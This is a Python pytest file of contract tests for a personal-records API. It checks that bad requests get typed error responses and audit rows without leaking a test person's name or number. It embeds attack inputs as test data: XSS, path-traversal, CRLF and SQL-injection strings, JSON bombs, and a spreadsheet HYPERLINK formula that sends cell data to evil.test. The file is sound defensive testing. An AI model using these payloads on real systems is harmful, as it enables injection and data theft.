"""What is sent wrongly, one case a kind: a typed problem, a row of the audit that names the request, nothing leaked.

Every request carries a person's name and number in it somewhere; neither comes back, and neither is in any log.
"""

import csv
import io
import logging
import uuid
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import api_makers as make
import asking
import held_people as people
import pytest
from asking import OPERATIONS, World
from sqlalchemy import text

from api.problems import PROBLEM_JSON, Kind

pytestmark = pytest.mark.contract
NAME, NUMBER = "Nguyễn Thị Bí Mật", "099199123454"
PERSONAL = (NAME, NUMBER, quote(NAME), NAME.encode("unicode_escape").decode())
Case = Callable[[World], Any]


def head(world: World, **more: str) -> dict[str, str]:
    told = ", ".join(f"{name}={value}" for name, value in people.MARRIAGE.items())
    return make.bearer(world.owner.token, **{"Hoso-Purpose": told, "Idempotency-Key": uuid.uuid4().hex} | more)


def search(world: World, **more: Any) -> Any:
    person = {"id_number": NUMBER, "full_name": NAME}
    body = {"person": person, "purpose": people.MARRIAGE} | more
    return world.http.post("/v1/records/search", json=body, headers=head(world))


def revoke(world: World, **more: str) -> Any:
    body = OPERATIONS["revokeRecord"](world, world.owner, world.ids).json
    return world.http.post(f"/v1/records/{world.ids.revoked}/revoke", json=body, headers=head(world, **more))


def token(world: World, **more: str) -> Any:
    """Of a client of its own, so that the first refusal is always a row."""
    sender = make.sender(world.service, "events:read", valid_to=world.service.clock() - timedelta(hours=1))
    return world.http.post("/v1/token", data=sender.form(world.service.clock()) | {"scope": NAME} | more)


def unknown_scope(world: World) -> Any:
    sender = make.sender(world.service, "events:read")
    return world.http.post("/v1/token", data=sender.form(world.service.clock(), f"person.{NUMBER}:read"))


def replayed(world: World) -> Any:
    form = make.sender(world.service, "events:read").form(world.service.clock())
    assert world.http.post("/v1/token", data=form).status_code == 200
    return world.http.post("/v1/token", data=form)


def others_record(world: World) -> Any:
    return world.ask("getRecord", world.stranger, world.ids)


def over_limit(world: World) -> Any:
    sent = head(world, **{"Content-Type": "application/json"})
    return world.http.post("/v1/sufficiency", content=(NAME + NUMBER).encode() * 4_000, headers=sent)


def wrong_type(world: World) -> Any:
    sent = head(world, **{"Content-Type": "text/html"})
    return world.http.post("/v1/sufficiency", content=f"<b>{NAME}</b>".encode(), headers=sent)


def html_in_a_path(world: World) -> Any:
    return world.http.get(f"/v1/records/{quote(f'<img src=x>{NAME}{NUMBER}')}", headers=head(world))


def twice(world: World) -> Any:
    """One key for two requests."""
    sent = head(world, **{"Idempotency-Key": f"{NUMBER}"})
    world.http.post("/v1/webhooks", json={"address": asking.HOOK}, headers=sent)
    return world.http.post("/v1/webhooks", json={"address": asking.HOOK, "batch": 2}, headers=sent)


CASES: dict[str, tuple[Kind, Case]] = {
    "unknown scope": (Kind.INVALID_SCOPE, unknown_scope),
    "wrong purpose": (Kind.PURPOSE_REFUSED, lambda world: search(world, purpose={**people.MARRIAGE, "basis": NUMBER})),
    "dossier that is a number": (
        Kind.PURPOSE_REFUSED,
        lambda world: search(world, purpose={**people.MARRIAGE, "dossier": NUMBER}),
    ),
    "expired key": (Kind.INVALID_CLIENT, token),
    "replayed assertion": (Kind.INVALID_CLIENT, replayed),
    "another client's record": (Kind.HIDDEN, others_record),
    "nobody": (Kind.HIDDEN, search),
    "If-Match missing": (Kind.IF_MATCH_MISSING, revoke),
    "If-Match of another edition": (Kind.CHANGED_MEANWHILE, lambda world: revoke(world, **{"If-Match": '"an-older"'})),
    "cursor changed": (Kind.CURSOR_REFUSED, lambda world: search(world, cursor="A" * 60)),
    "body over the limit": (Kind.TOO_LARGE, over_limit),
    "body of another type": (Kind.MEDIA_TYPE, wrong_type),
    "HTML in a path": (Kind.NOT_UNDERSTOOD, html_in_a_path),
    "HTML in a field": (Kind.NOT_UNDERSTOOD, lambda world: search(world, kinds=[f"<script>{NAME}</script>"])),
    "a member that is not known": (Kind.NOT_UNDERSTOOD, lambda world: search(world, **{NAME: NUMBER})),
    "a key for two requests": (Kind.KEY_REUSED, twice),
}


@pytest.mark.parametrize("case", CASES)
def test_it_is_a_typed_problem_and_a_row_and_tells_nothing(
    case: str, world: World, caplog: pytest.LogCaptureFixture
) -> None:
    kind, send = CASES[case]
    with caplog.at_level(logging.DEBUG):
        given = send(world)
    said = given.json()
    assert (given.status_code, said["type"], said["title"]) == (kind.status, kind.uri, kind.title), given.text
    assert given.headers["content-type"] == PROBLEM_JSON
    assert given.headers["x-content-type-options"] == "nosniff"
    assert written(world, said["request"]), "no row of the audit"
    logged = "\n".join(f"{one.getMessage()} {one.exc_text}" for one in caplog.records if one.name != "httpx")
    for value in PERSONAL:
        assert value not in given.text + str(given.headers)
        assert value not in logged


def written(world: World, request_id: str) -> list[str]:
    """Actions of the rows about this request."""
    asked = "SELECT action FROM audit WHERE subject = :id OR details->>'request' = :id"
    with world.service.warehouse.looking() as connection:
        return list(connection.scalars(text(asked), {"id": request_id}))


def test_the_audit_holds_nothing_of_all_that(world: World) -> None:
    for _, send in CASES.values():
        send(world)
    with world.service.warehouse.looking() as connection:
        rows = "\n".join(connection.scalars(text("SELECT audit::text FROM audit")))
    assert len(rows) > 1_000
    assert not [value for value in PERSONAL if value in rows]


# --- what no client would send


ODDITIES = {
    "half a surrogate pair": rb'{"person": {"id_number": "099199123454", "full_name": "\ud800"}}',
    "half a pair as a name": rb'{"\ud800": 1}',
    "a NUL": rb'{"person": {"id_number": "099199123454", "full_name": "a\u0000b"}}',
    "a name twice": b'{"person": 1, "person": {"id_number": "099199123454"}}',
    "no number": b'{"limit": NaN, "person": Infinity}',
    "a number of ten thousand digits": b'{"limit": ' + b"9" * 10_000 + b"}",
    "very deep": b"[" * 30_000 + b"]" * 30_000,
    "very deep objects": b'{"person":' * 5_000 + b"1" + b"}" * 5_000,
    "UTF-16": '{"person": {}}'.encode("utf-16"),
    "no UTF-8": b'{"person": "\xff\xfe"}',
    "a list": b"[]",
    "null": b"null",
    "nothing": b"",
}
PATHS = ("%ff%fe", "%00", "..%2f..%2fetc", "a%0d%0aX-Evil:1", "%F0%9F%92%A9", "'%20OR%201=1--", "0" * 3_000)


@pytest.mark.parametrize("oddity", ODDITIES)
@pytest.mark.parametrize("path", ["records/search", "prefill", "subjects/log", "webhooks", "exports", "token"])
def test_what_is_odd_is_refused_and_breaks_nothing(world: World, oddity: str, path: str) -> None:
    sent = head(world, **{"Content-Type": "application/json"})
    if path == "token":
        sent["Content-Type"] = "application/x-www-form-urlencoded"
    given = world.http.post(f"/v1/{path}", content=ODDITIES[oddity], headers=sent)
    assert 400 <= given.status_code < 500, given.text
    assert given.headers["content-type"] == PROBLEM_JSON


@pytest.mark.parametrize("odd", PATHS)
@pytest.mark.parametrize("path", ["records/{}", "documents/{}/original", "exports/{}/manifest", "webhooks/{}"])
def test_an_odd_address_is_refused_and_breaks_nothing(world: World, odd: str, path: str) -> None:
    given = world.http.get(f"/v1/{path.format(odd)}", headers=head(world))
    assert given.status_code in (404, 422), given.text
    assert "x-evil" not in given.headers
    listed = world.http.get(f"/v1/events?after={odd}", headers=head(world))
    assert listed.status_code in (400, 422), listed.text


HEADERS = ("Hoso-Purpose", "Idempotency-Key", "If-Match", "If-None-Match", "Accept", "DPoP", "Authorization")


@pytest.mark.parametrize("name", HEADERS)
@pytest.mark.parametrize(
    "odd", [b"", b"\xff\xfe", "Khuể".encode(), b'"' * 500, b"," * 5_000, b"a\x0bb", b"q=0;q=\xc2\xb2"]
)
def test_an_odd_head_breaks_nothing(world: World, name: str, odd: bytes) -> None:
    for operation in ("getRecord", "revokeRecord", "searchRecords"):
        given = world.ask(operation, world.owner, replace(world.ids, revoked=world.ids.absent().revoked), **{name: odd})  # type: ignore[arg-type]
        assert given.status_code < 500, given.text


# --- what is held may look like anything


FORMULA = '=HYPERLINK("http://evil.test/?"&A1;"xem")'


def test_a_formula_in_a_field_is_no_formula_in_an_export(world: World) -> None:
    people.hold(world.service, "099187009001", "H56.12-261101-0001", people.card("099187009001", "K0", ho_ten=FORMULA))
    world.service.clock.pass_by(minutes=1)  # type: ignore[attr-defined]  # an export is of what was known when it was asked
    asked = {"purpose": people.MARRIAGE, "format": "csv", "kinds": ["cccd"], "fields": ["ho_ten"]}
    export = world.http.post("/v1/exports", json=asked, headers=head(world)).headers["location"]
    part = world.http.get(f"{export}/parts/fields-00001.csv", headers=head(world))
    rows = csv.DictReader(io.StringIO(part.content.decode("utf-8-sig"), newline=""))
    values = {row["value"] for row in rows}
    assert f"'{FORMULA}" in values
    assert FORMULA not in values
    assert part.headers["content-disposition"].startswith("attachment")


def test_html_in_a_field_goes_out_as_data_and_never_as_a_page(world: World) -> None:
    sender = make.sender(world.service, *asking.EVERYTHING, "document.giay_khai_sinh.quoc_tich:read")
    reader = replace(world.owner, token=sender.token(world.http, world.service.clock()))
    given = world.ask("getRecord", reader, world.ids)
    values = {one["field"]: one["value"] for one in given.json()["fields"]}
    assert people.ODD in values.values()
    assert given.headers["content-type"] == "application/json"
    assert given.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in given.headers["content-security-policy"]
